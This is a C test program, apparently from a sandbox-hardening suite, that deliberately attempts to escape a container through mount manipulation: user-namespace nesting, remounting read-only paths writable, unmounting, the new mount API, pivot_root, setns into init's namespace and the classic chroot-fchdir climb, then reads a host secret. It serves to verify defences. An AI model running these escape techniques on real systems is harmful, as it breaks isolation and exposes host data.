/* esc-mount.c — hostile program: rearrange the mount table to reach the host (mount, umount2, pivot_root, new mount API, chroot + fchdir). */
/*
 * Usage: esc-mount HOSTPATH RO-DIR
 *   HOSTPATH  host path of a secret the sandbox was not given
 *   RO-DIR    inside path of a read-only bind of a host temp dir holding "canary"
 * First, where it can, it makes a user and mount namespace of its own and maps itself to
 * root there (so the rest runs with every capability in a namespace the sandbox did not
 * plan for; "nest-userns" says whether that worked). Then: mount a tmpfs, bind "/" elsewhere, remount "/" and RO-DIR read-write (then
 * write the canary and an O_TMPFILE in "/"); umount2 RO-DIR and /workspace (lazy) to
 * uncover what lies beneath; fsopen/open_tree/move_mount/mount_setattr; pivot_root; setns
 * into pid 1's mount namespace; unshare(CLONE_NEWNS); the classic chroot escape (keep a
 * descriptor of "/", chroot into a subdirectory, fchdir back out, chdir("..") 64 times,
 * chroot(".")). After all that, read HOSTPATH by its host path. Every target path lies
 * below /workspace or RO-DIR, which do not exist on the host.
 * Expected defence: seccomp (mount, umount2, pivot_root, the new mount API, setns, unshare,
 * chroot: EPERM); no capabilities in any user namespace (EPERM again); mounts locked by
 * the user namespace; the mount namespace itself (HOSTPATH does not exist inside).
 */
#include "esc.h"

#include <limits.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
struct mount_attr {
	unsigned long long attr_set, attr_clr, propagation, userns_fd;
};
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, text, strlen(text));
	int e = errno;
	close(fd);
	errno = e;
	return n < 0 ? -1 : 0;
}

/* unshare a user + mount namespace and become its root; reported as nest-userns. */
static void nest(void)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (esc_report("nest-userns", unshare(CLONE_NEWUSER | CLONE_NEWNS)) < 0)
		return;
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1\n", (unsigned)uid);
	esc_report("nest-uid-map", write_file("/proc/self/uid_map", map));
	snprintf(map, sizeof(map), "0 %u 1\n", (unsigned)gid);
	esc_report("nest-gid-map", write_file("/proc/self/gid_map", map));
}

static void write_canary(const char *name, const char *ro)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/canary", ro);
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	esc_report(name, fd < 0 ? -1 : write(fd, "clobbered\n", 10));
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	char path[PATH_MAX];

	esc_init();
	if (argc != 3) {
		fprintf(stderr, "usage: esc-mount HOSTPATH RO-DIR\n");
		return 2;
	}
	const char *hostpath = argv[1], *ro = argv[2];

	nest();
	mkdir("/workspace/m1", 0755);
	mkdir("/workspace/m2", 0755);
	esc_report("mount-tmpfs", mount("none", "/workspace/m1", "tmpfs", 0, "size=1m"));
	esc_report("mount-bind-root", mount("/", "/workspace/m2", NULL, MS_BIND | MS_REC, NULL));
	esc_report("mount-proc", mount("proc", "/workspace/m1", "proc", 0, NULL));
	esc_report("remount-root-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	esc_report("remount-ro-dir-rw", mount(NULL, ro, NULL, MS_REMOUNT | MS_BIND, NULL));
	esc_report("remount-usr-rw", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
	write_canary("canary-after-remount", ro);
	int fd = open("/", O_TMPFILE | O_WRONLY | O_CLOEXEC, 0600);
	esc_report("root-tmpfile-after-remount", fd);
	if (fd >= 0)
		close(fd);

	/* Unmounting uncovers what a mount hides. Only targets that exist nowhere but inside a
	 * sandbox (the bind of RO-DIR, /workspace), so even a payload that somehow held
	 * CAP_SYS_ADMIN on the host could not unmount anything of the host's. */
	esc_report("umount-ro-dir", umount2(ro, MNT_DETACH));
	esc_report("umount-workspace", umount2("/workspace", MNT_DETACH));
	write_canary("canary-after-umount", ro);

	/* The new mount API. */
	int fsfd = (int)syscall(SYS_fsopen, "tmpfs", 0);
	esc_report("fsopen", fsfd);
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | AT_RECURSIVE);
	esc_report("open_tree-clone-root", tree);
	esc_report("move_mount", syscall(SYS_move_mount, tree, "", AT_FDCWD, "/workspace/m2", MOVE_MOUNT_F_EMPTY_PATH));
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	esc_report("mount_setattr-ro-dir-rw", syscall(SYS_mount_setattr, AT_FDCWD, ro, 0, &attr, sizeof(attr)));
	esc_report("fspick-root", syscall(SYS_fspick, AT_FDCWD, "/", 0));
	write_canary("canary-after-setattr", ro);

	/* pivot_root into a fresh directory and back out. */
	mkdir("/workspace/newroot", 0755);
	mkdir("/workspace/newroot/old", 0755);
	esc_report("pivot_root", syscall(SYS_pivot_root, "/workspace/newroot", "/workspace/newroot/old"));
	if (chdir("/workspace") == 0)
		esc_report("pivot_root-dot", syscall(SYS_pivot_root, ".", "."));

	/* Someone else's mount namespace. */
	int ns = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
	esc_report("open-init-mntns", ns);
	if (ns >= 0)
		esc_report("setns-init-mntns", setns(ns, CLONE_NEWNS));
	else
		esc_report("setns-init-mntns", -1); /* the open's errno */
	esc_report("unshare-newns", unshare(CLONE_NEWNS));

	/* The classic chroot escape. Even where chroot is refused the rest runs: climbing ".."
	 * from a kept descriptor must still lead nowhere but the sandbox's own root. */
	int keep = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	mkdir("/workspace/jail", 0755);
	esc_report("chroot-jail", chroot("/workspace/jail"));
	esc_report("fchdir-out", fchdir(keep));
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	esc_report("chroot-dot", chroot("."));
	if (getcwd(path, sizeof(path)))
		printf("cwd-after-climb=%s\n", path);
	esc_try_read("secret-after-chroot", hostpath);
	snprintf(path, sizeof(path), ".%s", hostpath);
	esc_try_read("secret-relative-after-climb", path);
	return 0;
}
